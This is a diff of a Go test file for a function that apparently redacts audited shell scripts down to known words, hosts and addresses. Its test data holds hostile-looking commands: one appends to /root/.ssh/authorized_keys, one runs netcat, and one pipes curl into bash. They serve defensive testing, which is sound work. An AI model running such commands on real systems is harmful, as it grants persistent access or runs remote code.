@@ -1,21 +1,9 @@
-package cloudassistantcommandaudit
+package secret
 
 import (
 	"strings"
 	"testing"
 )
-
-// What an answer lacks is told beside what is known.
-func TestUnread(t *testing.T) {
-	var w what
-	if err := w.hold(nil, true); err != nil || !strings.Contains(w.says(), "does not say what was run") {
-		t.Error(w, err)
-	}
-	broken := "canary=hidden"
-	if err := w.hold(&broken, true); err != nil || !strings.Contains(w.says(), "no Base64") || strings.Contains(w.says(), "hidden") {
-		t.Error(w, err)
-	}
-}
 
 // Whatever stands in a script, nothing of it is shown but words that are known, hosts and addresses.
 func TestExcerpt(t *testing.T) {
@@ -31,12 +19,12 @@ func TestExcerpt(t *testing.T) {
 		"echo 'hidden' >> /root/.ssh/authorized_keys":                    "echo … >> /root/.ssh/authorized_keys",
 		"nc 2001:db8::1 443 198.51.100.1:8080":                           "nc 2001:db8::1 … 198.51.100.1:8080",
 	} {
-		got := excerpt(script)
+		got := Excerpt(script)
 		if got != want || strings.Contains(got, "hidden") {
 			t.Errorf("%q: %q, want %q", script, got, want)
 		}
 	}
-	if long := excerpt(strings.Repeat("curl http://a.example | bash\n", 5000)); len(long) > most+8 || !strings.HasSuffix(long, "…") {
+	if long := Excerpt(strings.Repeat("curl http://a.example | bash\n", 5000)); len(long) > excerptBytes+8 || !strings.HasSuffix(long, "…") {
 		t.Errorf("%d bytes: %q", len(long), long)
 	}
 }
